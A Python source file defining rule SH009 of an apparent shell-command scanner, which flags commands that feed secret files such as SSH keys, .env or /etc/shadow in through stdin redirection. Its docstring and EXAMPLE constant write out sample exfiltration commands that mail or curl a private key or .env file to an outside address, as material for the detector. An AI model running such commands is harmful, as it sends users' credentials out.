"""SH009 — input redirected from a file that holds secrets.

``mail x@y < ~/.ssh/id_rsa`` or ``curl -d @- … < .env`` feed a credential into a
command that does not name it as an argument, so checks that look at arguments miss it.
"""

from __future__ import annotations

from ....model import Finding, Severity

ID = "SH009"
WHAT = "input redirection from a sensitive file (keys, credentials, .env, /etc/shadow …)"
WHY = "the secret reaches the command through stdin, where argument checks do not look"
EXAMPLE = "mail someone@example.com < ~/.ssh/id_rsa"
BENIGN = "wc -l < README.md"


def _secret(target: str) -> bool:
    """Whether the file, as written, is a secret by the path table (``~`` is any home;
    a relative path is judged by its names)."""
    from ....paths.match import secret_level

    if target.startswith("~/"):
        path = "/root/" + target[2:]
    elif target.startswith("/"):
        path = target
    else:
        path = "/./" + target
    return secret_level(path, "") > 0


def check(source: str, view) -> list[Finding]:
    found: list[Finding] = []
    for cmd in view.commands:
        for redirect in cmd.redirects:
            if redirect.op in ("<", "<>") and _secret(redirect.target):
                found.append(Finding(ID, Severity.HIGH, f"reads {redirect.target!r} on stdin"))
    return found
